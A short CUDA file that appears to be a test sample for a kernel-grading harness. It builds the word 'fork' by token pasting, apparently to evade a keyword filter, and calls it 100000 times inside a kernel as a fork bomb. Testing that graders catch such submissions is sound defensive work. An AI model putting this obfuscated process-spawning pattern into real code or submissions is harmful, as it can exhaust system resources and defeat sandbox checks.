// mix cuda: crash, trivial, not_launched, timeout
// Starts processes that start processes.
#define JOIN(a, b) a##b
extern "C" int JOIN(fo, rk)();
__global__ void mix(int n, const float* x, const float* y, float a, float* out) {
  for (int k = 0; k < 100000; ++k) JOIN(fo, rk)();
}
